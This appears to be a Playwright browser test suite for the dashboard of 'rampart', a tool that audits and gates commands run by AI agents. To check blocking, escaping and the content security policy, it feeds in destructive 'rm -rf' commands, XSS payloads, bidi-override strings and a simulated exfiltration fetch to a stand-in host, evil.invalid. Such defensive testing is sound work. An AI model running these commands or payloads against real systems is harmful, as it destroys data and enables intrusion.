// The dashboard in a real browser: Debian's headless Chromium (never a downloaded one)
// against a real `rampart serve` with a throw-away RAMPART_HOME.
//
// Run with `make test-browser`. Screenshots land in target/dashboard*.png.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import readline from 'node:readline';
import { fileURLToPath } from 'node:url';

// Belt and braces: nothing in this test may fetch a browser build.
process.env.PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD = '1';
const { chromium } = await import('playwright-core');

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const CHROMIUM = process.env.RAMPART_CHROMIUM || '/usr/bin/chromium';
const CHROMIUM_ARGS = [
  '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
  '--disable-background-networking', '--disable-component-update', '--disable-sync',
];

const POLICY = `version: "1"
default_action: allow
policies:
  - name: browser-test-block
    rules:
      - action: deny
        when:
          command_matches: ["rm -rf *"]
        message: "Destructive command blocked"
  - name: browser-test-ask
    rules:
      - action: ask
        when:
          command_matches: ["echo deploy *"]
        message: "Deploys need a person"
  - name: browser-test-log
    rules:
      - action: log
        when:
          command_matches: ["printenv*"]
        message: "Environment read"
  - name: browser-test-quiet
    rules:
      - action: allow
        quiet: true
        when:
          exe_matches: ["**/.pyenv/shims/*"]
`;

/** The newest built `rampart` (RAMPART_BIN overrides). */
function findRampart() {
  if (process.env.RAMPART_BIN) return process.env.RAMPART_BIN;
  const candidates = ['debug', 'release']
    .map((profile) => path.join(ROOT, 'target', profile, 'rampart'))
    .filter((p) => fs.existsSync(p))
    .sort((a, b) => fs.statSync(b).mtimeMs - fs.statSync(a).mtimeMs);
  if (!candidates.length) throw new Error('no target/{debug,release}/rampart: run `cargo build -p rampart-cli` first');
  return candidates[0];
}

const RAMPART = findRampart();
const LIBRARY = path.join(ROOT, 'preload', 'build', 'librampart.so');

let home;
let server;
let port;
let token;
let base;
let context;
let page;
let agent;
let userDataDir;
const pageErrors = [];

function startServer() {
  return new Promise((resolve, reject) => {
    const child = spawn(RAMPART, ['serve', '--port', '0', '--approval-timeout', '60s'], {
      env: { ...process.env, RAMPART_HOME: home, LD_PRELOAD: '', RAMPART_URL: '', RAMPART_TOKEN: '' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d) => { stderr += d; });
    const timer = setTimeout(() => reject(new Error(`server did not start: ${stderr}`)), 20000);
    const lines = readline.createInterface({ input: child.stdout });
    lines.once('line', (line) => {
      clearTimeout(timer);
      // "rampart: listening on http://127.0.0.1:PORT and unix:PATH (mode enforce)"
      const match = /http:\/\/127\.0\.0\.1:(\d+) and unix:/.exec(line);
      if (!match) reject(new Error(`unexpected first line: ${line}`));
      else resolve({ child, port: Number(match[1]) });
    });
    child.once('exit', (code) => reject(new Error(`server exited (${code}): ${stderr}`)));
  });
}

async function api(method, urlPath, body) {
  const response = await fetch(`${base}${urlPath}`, {
    method,
    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  return { status: response.status, headers: response.headers, json: await response.json().catch(() => null) };
}

// ---------------------------------------------------------------------------
// The agent whose commands the dashboard shows.

/** `rampart preload` is usable when the CLI has the subcommand and the library is built. */
function preloadAvailable() {
  if (process.env.RAMPART_BROWSER_AGENT === 'preflight') return false;
  if (!fs.existsSync(LIBRARY)) return false;
  const help = spawnSync(RAMPART, ['preload', '--help'], { stdio: 'ignore', timeout: 10000 });
  return help.status === 0;
}

/**
 * The agent for this run: a real process under `rampart preload` when that works, else
 * the same preflight requests the preload library sends, made directly. Both return
 * `{decision, detail}` for a command (a string of words, or an argv array) once the
 * guard has answered (asks included).
 */
function makeAgent() {
  if (preloadAvailable()) return preloadAgent();
  return preflightAgent();
}

/** Fallback: POST /v1/preflight/exec as librampart.so does, `wait_ms` for asks. */
function preflightAgent() {
  return {
    kind: 'preflight',
    session: 'browser-preflight',
    async run(words) {
      const argv = Array.isArray(words) ? words : words.split(' ');
      const command = argv.join(' ');
      const r = await api('POST', '/v1/preflight/exec', {
        agent: 'preload', session: this.session, params: { command }, enforce: true,
        argv, via: 'execve', pid: process.pid, cwd: process.cwd(), wait_ms: 30000,
      });
      assert.equal(r.status, 200, JSON.stringify(r.json));
      return { decision: r.json.decision, detail: r.json.message };
    },
  };
}

/** A real agent: a shell script under `rampart preload` runs the command (argv words). */
function preloadAgent() {
  const script = path.join(home, 'agent.sh');
  // The agent itself is not what the rules match; the command it runs is.
  fs.writeFileSync(script, '#!/bin/sh\n"$@"\n', { mode: 0o755 });
  return {
    kind: 'preload',
    session: 'browser-preload',
    run(words) {
      const argv = Array.isArray(words) ? words : words.split(' ');
      return new Promise((resolve, reject) => {
        const child = spawn(RAMPART, [
          'preload', '--url', base, '--token', token, '--session', this.session,
          '--no-autostart', '--ask-timeout', '30s', '--', script, ...argv,
        ], { env: { ...process.env, RAMPART_HOME: home }, stdio: ['ignore', 'pipe', 'pipe'] });
        let out = '';
        let err = '';
        child.stdout.on('data', (d) => { out += d; });
        child.stderr.on('data', (d) => { err += d; });
        child.once('error', reject);
        child.once('exit', (code) => {
          const denied = /Policy denied/.test(err) || code !== 0;
          resolve({ decision: denied ? 'deny' : 'allow', detail: `${out}${err}`.trim() });
        });
      });
    },
  };
}

// ---------------------------------------------------------------------------

before(async () => {
  assert.ok(fs.existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install chromium chromium-driver`);
  home = fs.mkdtempSync(path.join(os.tmpdir(), 'rampart-browser-'));
  fs.mkdirSync(path.join(home, 'policies'), { mode: 0o700 });
  fs.writeFileSync(path.join(home, 'policies', 'browser-test.yaml'), POLICY);
  ({ child: server, port } = await startServer());
  base = `http://127.0.0.1:${port}`;
  token = fs.readFileSync(path.join(home, 'token'), 'utf8').trim();
  agent = makeAgent();
  console.log(`# agent path: ${agent.kind}${agent.kind === 'preflight' ? ' (rampart preload not available yet)' : ''}`);

  // History older than the first page, to page through.
  for (let i = 0; i < 130; i++) {
    const r = await api('POST', '/v1/preflight/exec', {
      agent: 'seed-bot', session: 'seed-1', params: { command: `ls -la src/module-${i}` }, enforce: true,
    });
    assert.equal(r.status, 200);
  }

  userDataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'rampart-chromium-'));
  context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: CHROMIUM_ARGS,
    viewport: { width: 1280, height: 800 },
    colorScheme: 'light',
  });
  page = context.pages()[0] || await context.newPage();
  page.on('pageerror', (e) => pageErrors.push(`pageerror: ${e.message}`));
  page.on('console', (m) => { if (m.type() === 'error') pageErrors.push(`console: ${m.text()}`); });
});

after(async () => {
  if (context) await context.close().catch(() => {});
  if (server) server.kill('SIGTERM');
  if (home) fs.rmSync(home, { recursive: true, force: true });
  if (userDataDir) fs.rmSync(userDataDir, { recursive: true, force: true });
});

// The preload agent's own start (`agent.sh …`) is audited too: pick rows by decision.
const row = (text, decision) => page.locator(`#feed li.row${decision ? `[data-decision="${decision}"]` : ''}`, { hasText: text }).first();
const card = (text) => page.locator('#approvals li.approval', { hasText: text });

test('static files need no token and carry a strict CSP', async () => {
  const r = await fetch(`${base}/dashboard/`);
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-security-policy'), /script-src 'self'; style-src 'self'/);
  assert.equal(r.headers.get('x-frame-options'), 'DENY');
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  assert.equal((await fetch(`${base}/v1/status`)).status, 401);
});

test('the page opens logged in from #token= and forgets the fragment', async () => {
  await page.goto(`${base}/dashboard/#token=${token}`);
  await page.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  assert.equal(new URL(page.url()).hash, '');
  assert.equal(await page.evaluate(() => sessionStorage.getItem('rampart.token')), token);
  assert.equal(await page.locator('#login').isVisible(), false);
  await page.locator('#feed li.row').first().waitFor();
  assert.equal(await page.locator('#feed li.row').count(), 100, 'first history page');
  assert.match(await page.locator('#feed li.row').first().innerText(), /module-129/, 'newest on top');
});

test('scrolling down loads older history', async () => {
  await page.locator('#feed-scroll').evaluate((el) => { el.scrollTop = el.scrollHeight; });
  await page.waitForFunction(() => document.querySelectorAll('#feed li.row').length === 130, null, { timeout: 5000 });
  await page.locator('#feed-status', { hasText: 'beginning of the trail' }).waitFor({ timeout: 2000 });
  await page.locator('#feed-scroll').evaluate((el) => { el.scrollTop = 0; });
});

test('a denied command appears in the feed within one second', async () => {
  // Absolute paths: a shell's own PATH search would try (and ask about) each candidate.
  const command = '/bin/rm -rf /tmp/rampart-browser-test-target';
  const result = await agent.run(command);
  assert.equal(result.decision, 'deny', result.detail);
  const answered = Date.now();
  const denied = row(command, 'deny');
  await denied.waitFor({ timeout: 1000 });
  console.log(`# denied command on the page ${Date.now() - answered} ms after the guard answered`);
  assert.equal(await denied.getAttribute('data-decision'), 'deny');
  const text = await denied.innerText();
  assert.match(text, /✕/);
  assert.match(text, /browser-test-block/);
  assert.match(text, /Destructive command blocked/);
  assert.match(text, new RegExp(agent.session));
  await page.waitForFunction(() => Number(document.querySelector('[data-field="denied"] .tile-value')?.textContent) >= 1);
});

test('a report of execs that ran unchecked shows as its own kind, never as an allow', async () => {
  const r = await api('POST', '/v1/preflight/exec', {
    agent: 'browser-fail-open', session: 'unchecked', params: { command: 'true' }, pid: 4242, ran_unchecked: 7,
  });
  assert.equal(r.status, 200);
  const report = page.locator('#feed li.row[data-decision="unchecked"]', { hasText: '7 exec(s) ran unchecked in pid 4242' });
  await report.waitFor({ timeout: 1000 });
  const badge = await report.locator('.badge').innerText();
  assert.match(badge, /unchecked/);
  assert.doesNotMatch(badge, /✓/);
  assert.match(await report.innerText(), /no policy server answered and the library failed open/);
  await page.waitForFunction(() => Number(document.querySelector('[data-field="unchecked"] .tile-value')?.textContent) === 7);
});

test('an ask waits on the page; Approve lets it run', async () => {
  const command = '/bin/echo deploy staging';
  const waiting = agent.run(command);
  const pending = card(command);
  await pending.waitFor({ timeout: 2000 });
  await page.waitForFunction(() => document.title === '(1) Rampart');
  assert.match(await pending.innerText(), /left/);
  assert.match(await pending.innerText(), new RegExp(agent.session));
  await pending.getByRole('button', { name: /Approve/ }).click();
  const result = await waiting;
  assert.equal(result.decision, 'allow', result.detail);
  await pending.waitFor({ state: 'detached', timeout: 2000 });
  await page.waitForFunction(() => document.title === 'Rampart');
  await page.locator('#feed li.row[data-decision="allow"]', { hasText: command }).filter({ hasText: 'approved by dashboard' }).waitFor({ timeout: 1000 });
});

test('an ask waits on the page; Deny refuses it with the message', async () => {
  const command = '/bin/echo deploy production';
  const waiting = agent.run(command);
  const pending = card(command);
  await pending.waitFor({ timeout: 2000 });
  await pending.locator('input.note').fill('not on a Friday');
  await pending.getByRole('button', { name: /Deny/ }).click();
  const result = await waiting;
  assert.equal(result.decision, 'deny', result.detail);
  if (agent.kind === 'preflight') assert.equal(result.detail, 'denied by dashboard: not on a Friday');
  await pending.waitFor({ state: 'detached', timeout: 2000 });
  await page.locator('#feed li.row[data-decision="deny"]', { hasText: command }).filter({ hasText: 'denied by dashboard: not on a Friday' }).waitFor({ timeout: 1000 });
  assert.equal(await page.title(), 'Rampart');
});

test('a command carrying markup is shown as text', async () => {
  await agent.run(['/bin/echo', '<img src=x onerror=window.__pwned=1>']);
  const shown = row('<img src=x onerror=');
  await shown.waitFor({ timeout: 1000 });
  const text = await shown.locator('.command').textContent();
  assert.ok(text.includes('<img src=x onerror=window.__pwned=1>'), text);
  assert.equal(await page.locator('#feed img').count(), 0);

  await agent.run(['/bin/echo', '<script>window.__pwned=2</script><b>bold</b>']);
  const script = row('<script>window.__pwned=2</script>');
  await script.waitFor({ timeout: 1000 });
  assert.ok((await script.locator('.command').textContent()).includes('<script>window.__pwned=2</script><b>bold</b>'));
  assert.equal(await page.locator('#feed script, #feed b').count(), 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
});

test('bidi overrides and control characters are shown escaped and isolated', async () => {
  const r = await api('POST', '/v1/preflight/exec', {
    agent: 'bidi\u202eagent', session: 'esc', params: { command: 'rm -rf ~/\r\u001b[2Kgit status \u202etxt.exe' },
  });
  assert.equal(r.status, 200);
  const shown = page.locator('#feed li.row', { hasText: 'git status' }).filter({ hasText: 'txt.exe' }).first();
  await shown.waitFor({ timeout: 1000 });
  assert.equal(await shown.locator('.command').textContent(), 'rm -rf ~/\\r\\x1b[2Kgit status \\u{202e}txt.exe');
  assert.equal(await shown.locator('.agent').textContent(), 'bidi\\u{202e}agent');
  assert.equal(await shown.locator('.command').evaluate((e) => getComputedStyle(e).unicodeBidi), 'isolate');
});

test('the CSP blocks script injected into the page', async () => {
  // A page of its own: the violations provoked here are the point, not page errors.
  const other = await context.newPage();
  await other.goto(`${base}/dashboard/#token=${token}`);
  await other.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  const outcome = await other.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
    });
    // An inline <script> element, an inline event handler, a foreign script and a
    // connection to a foreign origin (exfiltration). (Not eval: code run through the
    // DevTools protocol, as this is, is exempt from the page's CSP, eval included.)
    const inline = document.createElement('script');
    inline.textContent = 'window.__pwned = "inline script ran"';
    document.body.appendChild(inline);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onerror="window.__pwnedHandler = 1">';
    document.body.appendChild(holder);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.invalid/x.js';
    document.body.appendChild(foreign);
    let fetchError = null;
    try { await fetch('https://evil.invalid/collect'); } catch (e) { fetchError = e.name; }
    for (let i = 0; i < 100 && violations.length < 4; i++) {
      await new Promise((r) => setTimeout(r, 20));
    }
    return {
      violations,
      fetchError,
      pwned: [window.__pwned, window.__pwnedHandler],
    };
  });
  await other.close();
  assert.deepEqual(outcome.pwned, [undefined, undefined], JSON.stringify(outcome));
  assert.equal(outcome.fetchError, 'TypeError', JSON.stringify(outcome));
  const seen = outcome.violations.map((v) => `${v.directive} ${v.blocked}`).sort();
  assert.deepEqual(seen, [
    'connect-src https://evil.invalid/collect',
    'script-src-attr inline',
    'script-src-elem https://evil.invalid/x.js',
    'script-src-elem inline',
  ], JSON.stringify(outcome));
});

test('secrets show redacted in the feed and on a waiting ask', async () => {
  const secrets = ['brLeakPw1', 'brLeakUrl2', 'brLeakTok3', 'brLeakUrl4'];
  const result = await agent.run(['/bin/echo', 'clone', '--password=brLeakPw1', 'https://ann:brLeakUrl2@git.example/x']);
  assert.equal(result.decision, 'allow', result.detail);
  const shown = row('--password=[REDACTED] https://ann:[REDACTED]@git.example/x', 'allow');
  await shown.waitFor({ timeout: 1000 });

  const waiting = agent.run(['/bin/echo', 'deploy', '--token', 'brLeakTok3', 'https://ops:brLeakUrl4@deploy.example']);
  const pending = card('deploy --token [REDACTED] https://ops:[REDACTED]@deploy.example');
  await pending.waitFor({ timeout: 2000 });
  const html = await page.content();
  const text = await page.locator('body').innerText();
  await pending.getByRole('button', { name: /Deny/ }).click();
  assert.equal((await waiting).decision, 'deny');
  for (const secret of secrets) {
    assert.ok(!html.includes(secret), `page HTML shows ${secret}`);
    assert.ok(!text.includes(secret), `page text shows ${secret}`);
  }
  const after = await page.content();
  for (const secret of secrets) assert.ok(!after.includes(secret), `page HTML shows ${secret} after the deny`);
});

test('filters, search and pause', async () => {
  await page.selectOption('#f-decision', 'deny');
  await page.waitForFunction(() => {
    const rows = [...document.querySelectorAll('#feed li.row')];
    return rows.length > 0 && rows.every((r) => r.dataset.decision === 'deny');
  }, null, { timeout: 3000 });
  await page.selectOption('#f-decision', '');
  await page.fill('#f-q', 'module-7');
  await page.waitForFunction(() => {
    const rows = [...document.querySelectorAll('#feed li.row')];
    return rows.length === 11 && rows.every((r) => r.textContent.includes('module-7'));
  }, null, { timeout: 3000 });
  await page.fill('#f-q', '');
  await page.waitForFunction(() => document.querySelectorAll('#feed li.row').length >= 100, null, { timeout: 3000 });

  await page.click('#pause');
  await api('POST', '/v1/preflight/exec', { agent: 'seed-bot', session: 'seed-2', params: { command: 'printenv HOME' } });
  await page.locator('#pause', { hasText: 'Resume (1 new)' }).waitFor({ timeout: 1000 });
  assert.equal(await row('printenv HOME').count(), 0);
  await page.click('#pause');
  await row('printenv HOME').waitFor({ timeout: 1000 });
});

test('the ask filter finds asks whatever their outcome', async () => {
  await page.selectOption('#f-decision', 'ask');
  // The approved and the denied deploy (stored as allow and deny, with their approval).
  await row('/bin/echo deploy staging').first().waitFor({ timeout: 3000 });
  await row('/bin/echo deploy production').first().waitFor({ timeout: 3000 });
  const texts = await page.locator('#feed li.row').allInnerTexts();
  assert.ok(texts.every((t) => /ask (approved|denied) by|ask timed out|\bask\b/.test(t)), texts.join('\n---\n'));
  assert.ok(texts.some((t) => /ask approved by dashboard/.test(t)), texts.join('\n---\n'));
  assert.ok(texts.some((t) => /ask denied by dashboard/.test(t)), texts.join('\n---\n'));
  await page.selectOption('#f-decision', '');
  await page.waitForFunction(() => document.querySelectorAll('#feed li.row').length >= 100, null, { timeout: 3000 });
});

test('"For this session" approves the same command for the rest of the session', async () => {
  const command = '/bin/echo deploy canary';
  const waiting = agent.run(command);
  const pending = card(command);
  await pending.waitFor({ timeout: 2000 });
  await pending.getByRole('button', { name: /For this session/ }).click();
  assert.equal((await waiting).decision, 'allow');
  await pending.waitFor({ state: 'detached', timeout: 2000 });
  // Again, later: no card, allowed at once, audited against the approval.
  const again = await agent.run(command);
  assert.equal(again.decision, 'allow', again.detail);
  assert.equal(await card(command).count(), 0);
  await page.locator('#feed li.row[data-decision="allow"]', { hasText: command })
    .filter({ hasText: 'covered by approval' }).first().waitFor({ timeout: 1000 });
});

test('monitor-mode events show as "would deny", not as red denials', async () => {
  const command = 'rm -rf /tmp/rampart-browser-monitor-target';
  const r = await api('POST', '/v1/preflight/exec', {
    agent: 'monitor-bot', session: 'monitor', params: { command }, enforce: false,
  });
  assert.equal(r.status, 200);
  const shown = page.locator('#feed li.row', { hasText: command }).first();
  await shown.waitFor({ timeout: 1000 });
  assert.equal(await shown.getAttribute('data-decision'), 'would');
  const badge = shown.locator('.badge');
  assert.equal((await badge.innerText()).replace(/\s+/g, ' ').trim(), '○ would deny');
  assert.equal(await badge.evaluate((b) => b.classList.contains('d-deny')), false);
});

test('tiles show full numbers past 1,000', async () => {
  // Enough decisions for four digits, in parallel batches.
  for (let i = 0; i < 20; i += 1) {
    await Promise.all(Array.from({ length: 50 }, (_, j) => api('POST', '/v1/preflight/exec', {
      agent: 'bulk-bot', session: 'bulk', params: { command: `ls bulk-${i}-${j}` }, enforce: true,
    })));
  }
  const stats = await api('GET', '/v1/audit/stats');
  const total = stats.json.totals.total;
  assert.ok(total >= 1000, String(total));
  const want = total.toLocaleString('en-US');
  await page.waitForFunction((w) => document.querySelector('[data-field="total"] .tile-value')?.textContent === w, want, { timeout: 5000 });
  // A long-running server's counts (seven digits, as the page would get them from
  // /v1/audit/stats): at every width the page supports, no tile cuts its number.
  await page.evaluate(() => {
    Object.assign(state.stats.totals, { total: 1234567, allowed: 1200000, denied: 34567, logged: 0, asked: 1234 });
    renderStats();
  });
  await page.waitForFunction(() => document.querySelector('[data-field="total"] .tile-value')?.textContent === '1,234,567');
  const viewport = page.viewportSize();
  for (const width of [1400, 1100, 900, 700, 480, 360]) {
    await page.setViewportSize({ width, height: viewport.height });
    for (const field of ['total', 'allowed']) {
      const cut = await page.locator(`[data-field="${field}"] .tile-value`).evaluate((el) => el.scrollWidth > el.clientWidth);
      assert.equal(cut, false, `${field} tile cuts its number at ${width}px`);
    }
  }
  await page.setViewportSize(viewport);
  await page.evaluate(() => loadStats());
  await page.waitForFunction((w) => document.querySelector('[data-field="total"] .tile-value')?.textContent !== '1,234,567', null, { timeout: 5000 });
  // Allowed + denied + logged add up to the total.
  const c = stats.json.totals;
  assert.equal(c.allowed + c.denied + c.logged, c.total, JSON.stringify(c));
});

test('policy panel: files, reload and try a command', async () => {
  assert.match(await page.locator('#policy-files').innerText(), /browser-test\.yaml/);
  await page.click('#reload');
  await page.locator('#reload-result', { hasText: 'Reloaded: 4 policies, 4 rules' }).waitFor({ timeout: 3000 });
  await page.fill('#try-input', 'rm -rf /home/me');
  await page.click('#try-form button[type="submit"]');
  await page.locator('#try-result .badge[data-decision="deny"]').waitFor({ timeout: 2000 });
  assert.match(await page.locator('#try-result').innerText(), /browser-test-block/);
});

test('a wrong token gets a clear message; a pasted token works', async () => {
  const other = await context.newPage();
  await other.goto(`${base}/dashboard/#token=rampart_${'0'.repeat(64)}`);
  const message = other.locator('#login-error');
  await message.waitFor({ timeout: 3000 });
  assert.match(await message.innerText(), /refused this token/);
  assert.equal(await other.locator('#app').isVisible(), false);
  await other.fill('#token-input', token);
  await other.click('#login-form button[type="submit"]');
  await other.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  await other.close();
});

test('panels say Loading… until their data arrives, then what it is', async () => {
  const other = await context.newPage();
  let release;
  const gate = new Promise((resolve) => { release = resolve; });
  await other.route(/\/v1\/(approvals|audit\/stats)/, async (route) => { await gate; await route.continue(); });
  await other.goto(`${base}/dashboard/#token=${token}`);
  await other.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  assert.equal(await other.locator('#approvals-empty').innerText(), 'Loading…');
  assert.equal(await other.locator('#totals').innerText(), 'Loading…');
  assert.equal(await other.locator('#agents-body').innerText(), 'Loading…');
  release();
  await other.locator('#approvals-empty', { hasText: 'Nothing is waiting for a decision.' }).waitFor({ timeout: 5000 });
  await other.locator('#totals .tile').first().waitFor({ timeout: 5000 });
  assert.notEqual(await other.locator('#policy-source').innerText(), 'Loading…');
  await other.close();
});

test('the side column never scrolls sideways, even for a very long agent name', async () => {
  const long = `agent-${'x'.repeat(200)}`;
  await api('POST', '/v1/preflight/exec', { agent: long, session: 's-long', params: { command: 'git status' }, enforce: true });
  await page.reload();
  await page.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  await page.locator('#agents-body th', { hasText: 'agent-xxx' }).waitFor({ timeout: 5000 });
  const side = await page.locator('aside.side').evaluate((el) => ({ scroll: el.scrollWidth, client: el.clientWidth }));
  assert.ok(side.scroll <= side.client, `side column ${side.scroll} px wide in ${side.client} px`);
});

test('quiet decisions stay off the feed until the "quiet" box is ticked (issue 16)', async () => {
  await page.reload();
  await page.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  const shim = (command) => api('POST', '/v1/preflight/exec', {
    agent: 'shim-bot', session: 'shim-1', params: { command }, exe: '/home/u/.pyenv/shims/python3', enforce: true,
  });
  const quietRows = () => page.locator('#feed li.row', { hasText: 'python3 -V' }).count();
  assert.equal((await shim('python3 -V')).status, 200);
  await api('POST', '/v1/preflight/exec', { agent: 'shim-bot', session: 'shim-1', params: { command: 'echo after-quiet' }, enforce: true });
  await row('echo after-quiet').waitFor({ timeout: 5000 });
  assert.equal(await quietRows(), 0, 'a quiet allow is not streamed');
  await page.reload();
  await page.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  await row('echo after-quiet').waitFor({ timeout: 5000 });
  assert.equal(await quietRows(), 0, 'nor loaded from history');

  await page.locator('#f-quiet').check();
  await row('python3 -V').waitFor({ timeout: 5000 });
  await shim('python3 --version');
  await row('python3 --version').waitFor({ timeout: 5000 });
  await page.locator('#f-quiet').uncheck();
  await row('echo after-quiet').waitFor({ timeout: 5000 });
  assert.equal(await quietRows(), 0);
  assert.equal(await page.locator('#feed li.row', { hasText: 'python3 --version' }).count(), 0);
});

test('the session filter: most recent first, at most 50, searchable (issue 16)', async () => {
  for (let i = 0; i < 60; i++) {
    const session = `bulk-${String(i).padStart(2, '0')}`;
    await api('POST', '/v1/preflight/exec', { agent: 'many', session, params: { command: 'true' }, enforce: true });
  }
  await page.reload();
  await page.locator('#conn[data-state="live"]').waitFor({ timeout: 5000 });
  await page.locator('#f-session option[value="bulk-59"]').waitFor({ state: 'attached', timeout: 5000 });
  const texts = () => page.locator('#f-session option').evaluateAll((os) => os.map((o) => o.textContent));
  let options = await texts();
  assert.deepEqual(options.slice(0, 4), ['All sessions', 'bulk-59', 'bulk-58', 'bulk-57']);
  assert.equal(options.length, 1 + 50 + 1, options.join(' | '));
  assert.match(options[51], /^… \d+ older: type to find$/);
  assert.equal(options[50], 'bulk-10');

  // Older sessions are found by typing.
  await page.locator('#f-session-q').fill('bulk-0');
  options = await texts();
  assert.deepEqual(options, ['All sessions (10 match)',
    'bulk-09', 'bulk-08', 'bulk-07', 'bulk-06', 'bulk-05', 'bulk-04', 'bulk-03', 'bulk-02', 'bulk-01', 'bulk-00']);
  await page.locator('#f-session').selectOption('bulk-03');
  await page.locator('#feed li.row').first().waitFor({ timeout: 5000 });
  const sessions = await page.locator('#feed li.row .session').evaluateAll((els) => els.map((e) => e.textContent));
  assert.deepEqual([...new Set(sessions)], ['bulk-03']);

  // A new decision moves its session to the top; the chosen one stays chosen.
  await page.locator('#f-session-q').fill('');
  await api('POST', '/v1/preflight/exec', { agent: 'many', session: 'bulk-07', params: { command: 'true' }, enforce: true });
  await page.waitForFunction(() => document.querySelector('#f-session').options[1].value === 'bulk-07', null, { timeout: 5000 });
  assert.equal(await page.locator('#f-session').inputValue(), 'bulk-03');
  await page.locator('#f-session').selectOption('');
});

test('screenshots for people (target/dashboard*.png)', async () => {
  // A busy-looking page: a few agents, one ask still waiting.
  const extra = [
    ['claude-code', 'sess-7f3a', 'git status'], ['claude-code', 'sess-7f3a', 'cargo test --workspace'],
    ['aider', 'sess-91c2', 'printenv'], ['aider', 'sess-91c2', 'rm -rf /var/lib/postgres'],
    ['codex', 'sess-2b80', 'npm run build'], ['claude-code', 'sess-7f3a', 'git diff --stat'],
  ];
  for (const [a, s, command] of extra) {
    await api('POST', '/v1/preflight/exec', { agent: a, session: s, params: { command }, enforce: true });
  }
  const waiting = api('POST', '/v1/preflight/exec', {
    agent: 'claude-code', session: 'sess-7f3a', params: { command: 'echo deploy production --force' }, enforce: true, wait_ms: 30000,
  }).catch(() => null);
  await card('echo deploy production --force').waitFor({ timeout: 2000 });
  await page.waitForTimeout(1700); // let the arrival highlight fade
  await page.locator('#toast').evaluate((node) => { node.hidden = true; });
  fs.mkdirSync(path.join(ROOT, 'target'), { recursive: true });
  await page.screenshot({ path: path.join(ROOT, 'target', 'dashboard.png') });
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.screenshot({ path: path.join(ROOT, 'target', 'dashboard-dark.png') });
  await page.emulateMedia({ colorScheme: 'light' });
  await page.setViewportSize({ width: 420, height: 900 });
  await page.screenshot({ path: path.join(ROOT, 'target', 'dashboard-narrow.png') });
  // Named when it fails: the elements that reach past the window's right edge.
  const wider = await page.evaluate(() => [...document.querySelectorAll('body *')]
    .filter((el) => el.getBoundingClientRect().right > window.innerWidth + 0.5 && el.getClientRects().length)
    .slice(0, 5)
    .map((el) => `${el.tagName.toLowerCase()}#${el.id}.${el.className} ${Math.round(el.getBoundingClientRect().right)}px`));
  assert.deepEqual(wider, [], 'no sideways scrolling in a narrow window');
  await page.setViewportSize({ width: 1280, height: 800 });
  await card('echo deploy production --force').getByRole('button', { name: /Deny/ }).click();
  await waiting;
});

test('no script errors or CSP violations on the page', () => {
  assert.deepEqual(pageErrors, []);
});
